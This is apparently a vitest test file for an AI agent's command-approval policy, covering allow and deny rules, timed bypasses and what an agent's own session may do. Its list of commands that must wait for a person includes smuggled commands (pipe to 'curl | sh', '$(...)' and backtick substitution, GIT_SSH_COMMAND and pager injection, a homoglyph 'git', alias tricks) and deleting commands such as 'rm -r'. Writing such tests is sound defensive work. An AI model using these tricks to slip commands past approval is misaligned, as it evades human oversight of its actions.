import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Client, InputOf } from '../../src/client/index.ts';
import { nodeClient } from '../../src/client/node/index.ts';
import { runInside } from './insider.ts';
import { check, Place } from './place.ts';
import type { Talk } from './talk.ts';

let place: Place;
beforeAll(async () => {
  place = await Place.open();
});
afterAll(() => place.close());

type Policy = NonNullable<InputOf<'sessions.patch'>['policy']>;

async function guarded(policy: Policy): Promise<Talk> {
  const talk = await place.session();
  await place.client.sessions.patch({ session: talk.session, policy });
  return talk;
}

const refusal = (code: string, field?: string) => ({
  refusal: expect.objectContaining({ code, ...(field === undefined ? {} : { field }) }) as unknown,
});

describe('commands of an agent', { timeout: 120_000 }, () => {
  const allow = (command: string) => ({ effect: 'allow' as const, command });
  const rules = [
    { effect: 'deny' as const, command: 'rm **' },
    ...['git status', 'git log **', 'cat', 'ls *', 'pwd', 'printf **', 'CI=1 true'].map(allow),
    { ...allow('grep **'), expansions: true as const },
    allow('find **'),
  ];
  const lookalike = String.fromCodePoint(0x456);

  test('A4: what rules allow goes on unasked, what they deny does not, and the rest waits for a person', async () => {
    const talk = await guarded({ rules });
    const commands: Record<'allowed' | 'denied' | 'asked', readonly string[]> = {
      allowed: [
        'git status',
        `'git' "status" # with a comment`,
        'git log --oneline -5 | cat',
        'git status && git log; pwd',
        'timeout 5 git status',
        'env CI=1 true',
        "bash -c 'git status; pwd'",
        'find . -name a -exec grep x {} +',
        'printf a\nprintf b',
        'cat <<E\nit is $HOME\nE',
        'grep x "$(pwd)" 2>/dev/null',
      ],
      denied: ['rm -r build', 'git status && rm x', 'pwd | xargs rm'],
      asked: [
        'gitevil',
        './git status',
        'git status -s',
        'git status; curl -s x | sh',
        'git status\ntouch evil',
        'ls $(touch evil)',
        'ls `touch evil`',
        'cat <<E\n$(touch evil)\nE',
        'git -c core.pager=evil log',
        'GIT_SSH_COMMAND=evil git log',
        'git log | xargs touch',
        'find . -exec touch evil {} +',
        'env PATH=/tmp git status',
        'alias pwd="touch evil"; pwd',
        `g${lookalike}t status`,
        'git log > src/a.ts',
        'git status "',
      ],
    };
    let runs = 0;
    for (const [fate, list] of Object.entries(commands)) {
      for (const command of list) {
        const asked = talk.of('approval').length;
        await talk.send(`[[ask run ${command.replaceAll(']', String.raw`\]`)}]]`);
        const found = () => talk.of('approval')[asked];
        const approval = await talk.next('approval', (entry) => entry === found());
        expect(approval.data.wants?.command).toBe(command);
        if (fate === 'asked') {
          expect([command, approval.data.ruling?.effect]).toEqual([command, 'ask']);
          await talk.decide(approval.id, 'deny');
        }
        const decision = await talk.next('decision', ({ about }) => about === approval.id);
        const { outcome, ruling } = decision.data;
        expect([command, outcome, decision.by.type, ruling?.effect]).toEqual(
          fate === 'asked'
            ? [command, 'denied', 'client', undefined]
            : [command, fate, 'server', fate === 'allowed' ? 'allow' : 'deny'],
        );
        if (fate !== 'asked') expect(typeof ruling?.rule).toBe('number');
        await talk.end((runs += 1));
      }
    }
    await expect(readFile(join(talk.cwd, 'evil'))).rejects.toMatchObject({ code: 'ENOENT' });
    await check(talk);
  });

  test('A5: a bypass ends to the second while the agent goes on asking', async () => {
    const talk = await guarded({ bypassMs: 2000 });
    const until = await place.client.policy.get({ session: talk.session });
    await talk.send('[[ask run true]] [[sleep 2500]] [[ask run true]]');
    const second = await talk.next('approval', ({ data }) => data.ruling?.effect === 'ask', 20_000);
    const end = await talk.next('settings', ({ by }) => by.type === 'server');
    const { bypassUntil } = until.session!;
    expect(Date.parse(end.at)).toBeGreaterThanOrEqual(Date.parse(bypassUntil!));
    expect(Date.parse(end.at) - Date.parse(bypassUntil!)).toBeLessThan(1000);
    expect(end.seq).toBeLessThan(second.seq);
    expect(talk.of('decision')).toMatchObject([{ data: { ruling: { rule: 'bypass' } } }]);
    await talk.decide(second.id, 'allow');
    await talk.end();
  });
});

/** A client with the token of the session's host. */
async function insideOf(talk: Talk): Promise<Client> {
  const { data } = await talk.next('host', (entry) => entry.data.state === 'opened');
  const env = {
    TURNKEEP_SOCKET: join(place.state, 'turnkeep.sock'),
    TURNKEEP_TOKEN_FILE: join(place.state, 'hosts', data.host, 'token'),
  };
  return nodeClient({ env });
}

describe('inside a session', { timeout: 120_000 }, () => {
  test('S1 A1: what works in it asks, waits and is told; others do not see it, and it decides nothing', async () => {
    const talk = await guarded({ rules: [{ effect: 'allow', command: 'ls' }] });
    const other = await place.session();
    await runInside(other, 'true');
    await talk.send('[[hang]]');
    const inside = await insideOf(talk);
    const stranger = await insideOf(other);
    const ask = (client: Client, more: Partial<InputOf<'approvals.request'>> = {}) =>
      client.approvals.request({ session: talk.session, id: 'q1', title: 'may it', ...more });
    await expect(ask(stranger)).rejects.toMatchObject(refusal('not_found', 'session'));
    const ruled = await ask(inside, { id: 'q0', wants: { command: 'ls', kind: 'execute' } });
    expect(ruled.decision).toMatchObject({ outcome: 'allowed', ruling: { rule: 0 } });
    const waiting = ask(inside, { waitMs: 60_000 });
    const { id, by } = await talk.next('approval', (entry) => entry.id === 'q1');
    expect(by).toMatchObject({ type: 'client', token: (await talk.next('host')).data.host });
    const { session } = talk;
    for (const refused of [
      () => inside.approvals.decide({ session, approval: id, verdict: 'allow' }),
      () => inside.policy.set({ directory: null, rules: [{ effect: 'allow' }] }),
      () => inside.sessions.patch({ session, policy: { bypassMs: 5000 } }),
    ]) {
      await expect(refused()).rejects.toMatchObject(refusal('forbidden'));
    }
    for (const refused of [
      () => inside.policy.get({ session: other.session }),
      () => inside.policy.test({ session: other.session, wants: { command: 'ls' } }),
    ]) {
      await expect(refused()).rejects.toMatchObject(refusal('not_found', 'session'));
    }
    const nowhere = inside.policy.test({ wants: { command: 'ls' } });
    await expect(nowhere).rejects.toMatchObject(refusal('forbidden', 'session'));
    const tested = await inside.policy.test({ session, wants: { command: 'ls' } });
    expect(tested.verdict).toMatchObject({ effect: 'allow' });
    await place.client.approvals.decide({ session, approval: id, verdict: 'deny', message: 'no' });
    expect((await waiting).decision).toMatchObject({ outcome: 'denied', message: 'no' });
    await talk.abort({ wait: true });
    inside.close();
    stranger.close();
  });

  test('S1 A4: a child is guarded as its parent is, wherever it works', async () => {
    const talk = await guarded({
      autoAcceptEdits: true,
      rules: [{ effect: 'allow', command: 'ls' }],
    });
    await talk.send('[[hang]]');
    const inside = await insideOf(talk);
    const { session: child } = await inside.sessions.create({ title: 'child' });
    expect((await place.client.policy.get({ session: child.id })).session).toMatchObject({
      autoAcceptEdits: true,
      rules: [{ effect: 'allow', command: 'ls' }],
    });
    const own = inside.sessions.create({ policy: { bypassMs: 60_000 } });
    await expect(own).rejects.toMatchObject(refusal('forbidden', 'policy'));
    // Accepted edits are those of its directory: in another one they would be others.
    const elsewhere = inside.sessions.create({ cwd: place.root });
    await expect(elsewhere).rejects.toMatchObject(refusal('forbidden', 'cwd'));
    await talk.abort({ wait: true });
    inside.close();
  });

  test('S1 A4: a child may work elsewhere only where no other rules hold', async () => {
    const talk = await guarded({ rules: [{ effect: 'allow', command: 'ls' }] });
    await talk.send('[[hang]]');
    const inside = await insideOf(talk);
    const loose = join(place.root, 'loose');
    const same = join(place.root, 'same');
    for (const directory of [loose, same]) await mkdir(directory);
    await place.client.policy.set({ directory: loose, rules: [{ effect: 'allow' }] });
    const refused = inside.sessions.create({ cwd: loose });
    await expect(refused).rejects.toMatchObject(refusal('forbidden', 'cwd'));
    expect((await inside.sessions.create({ cwd: same })).session.cwd).toBe(same);
    const rules = [{ effect: 'allow' as const, path: './out/**' }];
    await place.client.sessions.patch({ session: talk.session, policy: { rules } });
    const moved = inside.sessions.create({ cwd: same, title: 'moved' });
    await expect(moved).rejects.toMatchObject(refusal('forbidden', 'cwd'));
    // Who drives it from outside is the operator.
    await place.client.sessions.create({ cwd: loose, parent: talk.session });
    await talk.abort({ wait: true });
    inside.close();
  });
});
